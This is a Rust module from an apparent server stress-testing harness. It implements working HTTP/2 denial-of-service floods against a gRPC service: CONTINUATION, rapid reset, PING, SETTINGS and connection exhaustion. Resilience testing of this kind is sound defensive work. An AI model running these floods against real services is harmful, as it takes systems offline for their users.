//! Floods: ordinary requests in excessive numbers.

use std::time::Duration;

use anyhow::Result;
use muster::proto::tensorflow as pb;

use super::Attacker;
use super::peer::{FloodPlan, Http2Peer, drive};
use super::streams::SMALL;
use crate::frames;

/// The number of frames generated at once.
const BATCH: usize = 256;
const FOUR: FloodPlan = FloodPlan::new(4);

fn flood(
    attacker: &mut Attacker,
    plan: &FloodPlan,
    feed: impl FnMut(&mut Attacker, &mut Http2Peer),
) -> Result<()> {
    drive(attacker, plan, feed, |_| false);
    Ok(())
}

/// Uses the server's processors, without any request.
#[expect(clippy::unnecessary_wraps, reason = "an attack like any other")]
pub fn compute(attacker: &mut Attacker) -> Result<()> {
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                let mut number = 1_u64;
                while attacker.goes_on() {
                    for _ in 0..100_000 {
                        number = std::hint::black_box(number.wrapping_mul(3));
                    }
                }
            });
        }
    });
    Ok(())
}

pub fn continuation(attacker: &mut Attacker) -> Result<()> {
    let piece = vec![0x82; 1024];
    flood(attacker, &FOUR, |_, peer| {
        if peer.step == 0 {
            let stream = peer.stream();
            frames::frame(peer.out(), frames::HEADERS, 0, stream, &[0x82]);
        }
        let stream = peer.next_stream - 2;
        for _ in 0..BATCH / 4 {
            frames::frame(peer.out(), frames::CONTINUATION, 0, stream, &piece);
        }
    })
}

pub fn rapid_reset(attacker: &mut Attacker) -> Result<()> {
    attacker.limit(20_000_000);
    let head = frames::call_block(&frames::path("GetKeyValue"));
    let message = frames::message(&pb::GetKeyValueRequest { key: "never".into() });
    flood(attacker, &FOUR, |_, peer| {
        for _ in 0..BATCH {
            peer.call(&head, &message);
            let stream = peer.next_stream - 2;
            frames::number(peer.out(), frames::RST_STREAM, stream, 8);
        }
    })
}

pub fn ping(attacker: &mut Attacker) -> Result<()> {
    attacker.limit(20_000_000);
    flood(attacker, &FOUR, |_, peer| {
        for _ in 0..BATCH {
            frames::frame(peer.out(), frames::PING, 0, 0, b"12345678");
        }
    })
}

pub fn settings(attacker: &mut Attacker) -> Result<()> {
    attacker.limit(20_000_000);
    flood(attacker, &FOUR, |_, peer| {
        for _ in 0..BATCH {
            frames::settings(peer.out(), &[]);
        }
    })
}

pub fn unread(attacker: &mut Attacker) -> Result<()> {
    let head = frames::call_block(&frames::path("GetKeyValue"));
    let message = frames::message(&pb::GetKeyValueRequest { key: SMALL.into() });
    let plan = FloodPlan { reads: false, ..FloodPlan::new(16) };
    flood(attacker, &plan, |_, peer| {
        for _ in 0..BATCH {
            peer.call(&head, &message);
            frames::frame(peer.out(), frames::PING, 0, 0, b"12345678");
        }
    })
}

pub fn random(attacker: &mut Attacker) -> Result<()> {
    let mut random = fastrand::Rng::with_seed(7);
    flood(attacker, &FloodPlan::new(8), |_, peer| {
        for _ in 0..16 {
            let mut payload = vec![0; random.usize(..1024)];
            random.fill(&mut payload);
            let stream = if random.bool() { 0 } else { random.u32(..64) };
            frames::frame(peer.out(), random.u8(..12), random.u8(..), stream, &payload);
        }
    })
}

pub fn idle(attacker: &mut Attacker) -> Result<()> {
    flood(attacker, &FloodPlan::new(4_000), |_, _| {})
}

pub fn connections(attacker: &mut Attacker) -> Result<()> {
    while attacker.goes_on() {
        // 2,000 a second, in steps.
        for _ in 0..20 {
            if std::net::TcpStream::connect_timeout(&attacker.grpc, Duration::from_millis(500)).is_err() {
                attacker.told("no connection");
            }
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok(())
}
